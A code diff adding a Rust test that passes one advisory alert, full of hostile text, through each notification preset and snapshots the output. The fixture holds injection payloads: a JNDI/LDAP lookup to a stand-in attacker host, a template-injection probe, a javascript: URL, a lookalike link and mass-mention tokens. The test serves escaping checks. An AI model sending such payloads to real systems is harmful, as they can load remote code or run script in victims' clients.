@@ -252,6 +252,33 @@ async fn no_text_of_a_stranger_links_or_mentions_in_any_preset_for_people() {
     }
 }
 
+/// What each preset sends of an alert whose texts are as bad as they can be, to be looked at.
+#[tokio::test]
+async fn each_preset_shows_bad_texts_as_they_are() {
+    let mut one = alert("SA87735", "highly_critical");
+    one.title = "h1. OpenSSL <b>\"x\"</b> & *bold* _it_ ~~s~~ `c` -del- +ins+ ??cite?? (x) \
+                 [click](http://evil.example) [~admin] {html} @channel <!here> #general C:\\new"
+        .to_owned();
+    one.summary = "- was less critical, now *highly*\r\n> quote | table ${jndi:ldap://evil.example} {{ 7*7 }}".to_owned();
+    one.solution = Some("Update to 2.0.1; see www.evil.example or mail a@evil.example".to_owned());
+    one.severity_rank = Some(4);
+    one.cves = vec!["CVE-2026-1".to_owned()];
+    one.products = vec!["Example <VPN> 1.x".to_owned()];
+    one.advisory_url = Some("https://svr.example.org/advisories/SA87735".to_owned());
+    one.ticket_url = Some("javascript:alert(1)".to_owned());
+    let mut message = message(vec![one.bounded()]);
+    message.title = format!("SA87735: {}", message.alerts[0].title);
+    let mut page = String::new();
+    for preset in presets() {
+        for value in sent(preset, &message).await {
+            let value = serde_json::to_string_pretty(&value).unwrap();
+            page.push_str(&format!("{}\n{value}\n", preset.name));
+        }
+    }
+    // It breaks addresses and names, and cannot be seen.
+    assert_reads!(page.replace('\u{200b}', "¦"));
+}
+
 /// All texts but those of some keys.
 fn collect<'a>(value: &'a Value, without: &[&str], texts: &mut Vec<&'a str>) {
     match value {
